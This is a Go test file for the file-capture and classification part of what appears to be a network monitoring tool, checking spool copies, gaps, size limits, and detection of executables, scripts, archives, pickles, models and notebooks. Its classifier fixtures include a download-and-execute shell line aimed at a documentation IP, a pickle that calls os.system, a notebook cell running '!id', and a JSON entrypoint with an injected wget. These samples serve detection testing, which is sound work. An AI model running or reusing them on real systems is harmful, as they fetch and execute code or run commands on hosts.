package file

import (
	"bytes"
	"crypto/sha256"
	"encoding/base64"
	"encoding/hex"
	"math/rand/v2"
	"strings"
	"testing"

	"github.com/raytap/raytap/capture"
)

// memory is a Spool.
type memory struct {
	b       []byte
	refuses bool
	dropped bool
}

func (m *memory) Put(b []byte) bool {
	m.b = append(m.b, b...)
	return !m.refuses
}

func (m *memory) Drop() { m.dropped = true }

// contentOf gives the bytes of a copy.
func contentOf(c *Copy) []byte {
	if c.Spool() == nil {
		return c.Rest()
	}
	return append(bytes.Clone(c.Spool().(*memory).b), c.Rest()...)
}

func copying(class Class, limit int64) *Cache {
	return NewCache(Options{HashLimit: 64 << 20, Copies: &Copies{Classes: class, Max: limit, New: func() Spool { return &memory{} }}})
}

func elf(n int) []byte {
	b := make([]byte, n)
	r := rand.New(rand.NewPCG(1, uint64(n)))
	for i := range b {
		b[i] = byte(r.Uint32())
	}
	copy(b, "\x7fELF\x02\x01\x01\x00\x00\x00\x00\x00\x00\x00\x00\x00\x02\x00\x3e\x00")
	return b
}

func digest(b []byte) string {
	sum := sha256.Sum256(b)
	return hex.EncodeToString(sum[:])
}

func TestCopyIsTheFile(t *testing.T) {
	c := copying(Executables, 1<<30)
	rnd := rand.New(rand.NewPCG(2, 2))
	for _, n := range []int{20, 64, 100, 4095, 4096, 4097, 5000, 32 << 10, 32<<10 + 1, 40000, 64 << 10, 64<<10 + 1, 300_000, 1 << 20} {
		for try := range 12 {
			b := elf(n)
			var r Reader
			r.Open(c)
			switch try % 4 {
			case 1:
				r.Expect(int64(n)) // what came before is compared with, and kept nowhere
			case 2:
				r.NoDigest()
			}
			if try == 3 {
				r.Whole(capture.At{}, bytes.Clone(b))
			} else {
				for rest := b; len(rest) > 0; {
					m := min(len(rest), 1+rnd.IntN(1+max(n/(1+try), 100)))
					step := bytes.Clone(rest[:m])
					r.Write(capture.At{}, step)
					clear(step) // it was borrowed
					rest = rest[m:]
				}
			}
			f := r.Close()[0]
			if f.Copy == nil || !bytes.Equal(contentOf(f.Copy), b) {
				t.Fatalf("%d bytes, try %d: the copy differs", n, try)
			}
			if got := f.Copy.SHA256(); got != digest(b) || f.SHA256 != "" && f.SHA256 != got || f.Copy.Size != int64(n) || f.Partial() {
				t.Errorf("%d bytes, try %d: %s of %d bytes, partial %v", n, try, got, f.Copy.Size, f.Partial())
			}
		}
	}
	if c.copying != 0 {
		t.Errorf("%d bytes are still counted", c.copying)
	}
}

func TestCopyOfAFileWithHoles(t *testing.T) {
	b := elf(100_000)
	for _, x := range []struct {
		says      string
		at        int // the hole
		n         int64
		want      []byte
		dontcount bool
	}{
		{"a segment is lost: zeros stand for it", 50_000, 1448, bytes.Join([][]byte{b[:50_000], make([]byte, 1448), b[51_448:]}, nil), false},
		{"in the part that names the file", 100, 1448, bytes.Join([][]byte{b[:100], make([]byte, 1448), b[1548:]}, nil), false},
		{"too much is lost: the copy ends there", 50_000, maxHole + 1, b[:50_000], true},
		{"a length that nobody has", 50_000, 1 << 50, b[:50_000], true},
	} {
		var r Reader
		r.Open(copying(Executables, 1<<30))
		r.Write(capture.At{}, b[:x.at])
		r.Gap(capture.At{}, x.n)
		r.Write(capture.At{}, b[min(int64(len(b)), int64(x.at)+min(x.n, 1<<20)):])
		f := r.Close()[0]
		if got := contentOf(f.Copy); !bytes.Equal(got, x.want) || f.Copy.SHA256() != digest(x.want) || !f.Partial() || f.SHA256 != "" {
			t.Errorf("%s: %d bytes, partial %v", x.says, len(got), f.Partial())
		}
	}
	// Many holes cost no more than a bounded number of zeros.
	var r Reader
	r.Open(copying(Executables, 1<<30))
	r.Write(capture.At{}, b[:5000])
	for range 1000 {
		r.Gap(capture.At{}, maxHole)
		r.Write(capture.At{}, b[5000:5001])
	}
	if f := r.Close()[0]; f.Copy.Size > 5000+maxHoles+1000 {
		t.Errorf("%d bytes of holes", f.Copy.Size)
	}
}

func TestCopyIsCut(t *testing.T) {
	b := elf(200_000)
	for _, limit := range []int64{4096, 5000, 70_000, 199_999} {
		var r Reader
		r.Open(copying(Executables, limit))
		for i := 0; i < len(b); i += 1000 {
			r.Write(capture.At{}, b[i:i+1000])
		}
		f := r.Close()[0]
		if got := contentOf(f.Copy); !bytes.Equal(got, b[:limit]) || !f.Copy.Cut || !f.Partial() || f.Copy.SHA256() != digest(b[:limit]) || f.SHA256 != digest(b) {
			t.Errorf("limit %d: %d bytes, cut %v", limit, len(got), f.Copy.Cut)
		}
	}
	var r Reader
	r.Open(copying(Executables, 5000))
	r.Whole(capture.At{}, b[:6000])
	if f := r.Close()[0]; !f.Copy.Cut || f.Copy.Size != 5000 {
		t.Errorf("of a whole message: cut %v, %d bytes", f.Copy.Cut, f.Copy.Size)
	}
}

func TestCopyGivenUp(t *testing.T) {
	c := NewCache(Options{HashLimit: 64 << 20, Copies: &Copies{Classes: All, Max: 1 << 30, New: func() Spool { return &memory{refuses: true} }}})
	var r Reader
	r.Open(c)
	for range 100 {
		r.Write(capture.At{}, elf(10_000))
	}
	f := r.Close()[0]
	if !f.Copy.Failed || c.copying != 0 || len(f.Copy.Rest()) != 0 {
		t.Errorf("failed %v, %d bytes are still held", f.Copy.Failed, c.copying)
	}
	spool := f.Copy.Spool().(*memory)
	if f.Copy.Drop(); !spool.dropped {
		t.Error("the spool was not told")
	}
	f.Copy.Drop()
	r.Open(c)
	r.Write(capture.At{}, elf(100_000))
	r.Drop()
	if c.copying != 0 {
		t.Errorf("%d bytes are still counted", c.copying)
	}
}

// What all copies of a worker collect is bounded: beyond it they go to their spools in smaller steps.
func TestCopiesShareABound(t *testing.T) {
	c := copying(All, 1<<30)
	readers := make([]Reader, 1000)
	for i := range readers {
		readers[i].Open(c)
		readers[i].Write(capture.At{}, elf(40_000))
	}
	if c.copying > maxCopying+copyStep {
		t.Errorf("%d bytes are collected", c.copying)
	}
	for i := range readers {
		if f := readers[i].Close()[0]; !bytes.Equal(contentOf(f.Copy), elf(40_000)) {
			t.Fatal("a copy differs")
		}
	}
}

func TestClasses(t *testing.T) {
	long := strings.Repeat("x", 200)
	coded := base64.StdEncoding.EncodeToString(elf(3000))
	for _, x := range []struct {
		says, b string
		want    Class
	}{
		{"ELF", string(elf(200)), Executables},
		{"PE", "MZ\x90\x00" + long, Executables},
		{"Mach-O", "\xcf\xfa\xed\xfe\x07\x00\x00\x01" + long, Executables},
		{"Mach-O for several machines", "\xca\xfe\xba\xbe\x00\x00\x00\x02" + long, Executables},
		{"WebAssembly", "\x00asm\x01\x00\x00\x00" + long, Executables},
		{"a shell script", "#!/bin/sh\necho " + long, Scripts},
		{"Python", "#!/usr/bin/env python3\nimport os\n", Scripts},
		{"commands without a first line", "cd /tmp; wget http://198.51.100.7/x; chmod +x x; ./x\n", Scripts},
		{"a program in base64", coded, Scripts},
		{"zip", "PK\x03\x04\x14\x00\x00\x00\x08\x00" + long, Archives},
		{"gzip", "\x1f\x8b\x08\x00\x00\x00\x00\x00\x00\x03" + long, Archives},
		{"xz", "\xfd7zXZ\x00" + long, Archives},
		{"7z", "7z\xbc\xaf\x27\x1c" + long, Archives},
		{"zstd", "\x28\xb5\x2f\xfd" + long, Archives},
		{"tar", "a" + strings.Repeat("\x00", 256) + "ustar\x00" + strings.Repeat("\x00", 249), Archives},
		{"a Debian package", "!<arch>\ndebian-binary   " + long, Archives},
		{"RPM", "\xed\xab\xee\xdb\x03\x00" + long, Archives},
		{"pickle, protocol 4", "\x80\x04\x95\x20\x00\x00\x00\x00\x00\x00\x00\x8c\x05posix\x94\x8c\x06system\x94\x93\x94", Pickles},
		{"pickle, protocol 0, that runs something", "cos\nsystem\n(S'id'\ntR.", Pickles},
		{"safetensors", "\x40\x00\x00\x00\x00\x00\x00\x00" + `{"w":{"dtype":"F32","shape":[1],"data_offsets":[0,4]}}          `, Models},
		{"GGUF", "GGUF\x03\x00\x00\x00" + long, Models},
		{"a notebook", `{ "cells": [ {"cell_type": "code", "source": ["!id"]} ], "nbformat": 4 }`, Notebooks},
		{"a notebook as Jupyter takes it", `{"name":"x.ipynb","content":{"cells":[{"cell_type":"code"}]}}`, Notebooks},

		{"a page", "<!DOCTYPE html><html><body><script>alert(1)</script>" + long, 0},
		{"JSON", `{"job_id":"x","entrypoint":"python /tmp/a.py; wget x"}`, 0},
		{"JSON with cells", `{"cells": 12, "cell_type": "x"}`, 0},
		{"text", "Dear all, as you know the #!/bin/sh line " + long, 0},
		{"base64 of a text", base64.StdEncoding.EncodeToString([]byte(strings.Repeat("nothing to see here ", 200))), 0},
		{"PNG", "\x89PNG\r\n\x1a\n" + long, 0},
		{"PDF", "%PDF-1.7\n" + long, 0},
		{"a log", strings.Repeat("2026-11-23 16:42:37 INFO worker started\n", 30), 0},
	} {
		var r Reader
		r.Open(copying(All&^Other, 1<<20))
		r.Write(capture.At{}, []byte(x.b))
		f := r.Close()[0]
		got := Class(0)
		if f.Copy != nil {
			got = f.Copy.Class &^ Other
		}
		if got != x.want {
			t.Errorf("%s: class %#x, want %#x (%s)", x.says, got, x.want, f.MIME)
		}
		if x.want == 0 {
			continue
		}
		// Who asks for another class gets none; who asks for all gets it.
		r.Open(copying(All&^Other&^x.want, 1<<20))
		r.Write(capture.At{}, []byte(x.b))
		if f := r.Close()[0]; f.Copy != nil {
			t.Errorf("%s: copied for another class", x.says)
		}
		r.Open(copying(RayPackages, 1<<20))
		r.Label(RayPackages)
		r.Write(capture.At{}, []byte(x.b))
		if f := r.Close()[0]; f.Copy == nil || f.Copy.Class&RayPackages == 0 {
			t.Errorf("%s: not copied by its place", x.says)
		}
	}
	for _, name := range ClassNames() {
		if ParseClass(name) == 0 {
			t.Errorf("%s is no class", name)
		}
	}
	if ParseClass("") != 0 || ParseClass("executables") != 0 {
		t.Error("what is no name has a class")
	}
}

// Without copies a file costs what it did.
func TestNoCopyIsFree(t *testing.T) {
	b := elf(2000)
	n := [2]float64{}
	for i, c := range []*Cache{NewCache(Options{HashLimit: 64 << 20}), copying(Archives, 1<<20)} {
		var r Reader
		n[i] = testing.AllocsPerRun(100, func() {
			r.Open(c)
			r.Whole(capture.At{}, b)
			r.Close()
		})
	}
	if n[0] != n[1] {
		t.Errorf("%v allocations without copies, %v with those of others", n[0], n[1])
	}
}

func TestPartial(t *testing.T) {
	whole := func() *File { return &File{Seen: 10, Copy: &Copy{Size: 10}} }
	for says, f := range map[string]func(*File){
		"shorter than announced": func(f *File) { f.Total = 11 },
		"with a hole":            func(f *File) { f.Missing = 1 },
		"without an end":         func(f *File) { f.Unfinished = true },
		"cut":                    func(f *File) { f.Copy.Cut = true },
	} {
		x := whole()
		if x.Partial() {
			t.Error("a whole file is partial")
		}
		if f(x); !x.Partial() {
			t.Errorf("a file %s is whole", says)
		}
	}
}
